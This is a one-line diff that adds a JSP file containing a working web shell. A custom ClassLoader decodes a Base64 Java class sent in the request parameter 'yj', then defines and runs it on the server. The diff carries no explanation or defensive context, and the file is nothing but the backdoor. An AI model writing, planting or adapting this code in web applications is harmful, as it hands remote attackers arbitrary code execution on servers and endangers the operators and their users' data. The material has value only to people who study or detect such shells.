@@ -1,0 +1,1 @@
+<%!class U extends ClassLoader{ U(ClassLoader c){ super(c); }public Class g(byte []b){ return super.defineClass(b,0,b.length); }}%><% String cls = request.getParameter("yj");if (cls != null) { new U(this.getClass().getClassLoader()).g(java.util.Base64.getDecoder().decode(cls)).newInstance().equals(pageContext); }%>
